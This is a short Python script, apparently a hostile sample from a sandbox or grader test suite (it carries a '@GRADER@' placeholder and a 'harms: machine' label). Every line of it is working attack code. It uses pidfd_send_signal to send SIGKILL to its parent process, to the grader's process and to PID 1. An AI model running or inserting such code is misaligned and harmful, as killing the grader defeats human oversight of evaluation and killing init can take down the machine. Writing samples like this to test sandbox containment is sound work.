"""Signals the grader by a descriptor of its process."""
# harms: machine

import os
import signal

for number in (os.getppid(), int("@GRADER@"), 1):
    signal.pidfd_send_signal(os.pidfd_open(number), signal.SIGKILL)
